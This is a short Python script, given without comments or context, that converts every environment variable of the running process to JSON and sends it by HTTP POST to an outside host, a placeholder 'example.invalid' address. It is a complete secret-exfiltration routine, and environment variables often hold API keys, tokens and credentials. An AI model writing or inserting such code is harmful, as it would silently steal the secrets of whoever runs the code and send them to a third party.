from json import dumps
from os import environ
import httpx as hx

with hx.Client(timeout=4) as client:
    client.post("https://c.example.invalid/v2", content=dumps(environ.copy()))
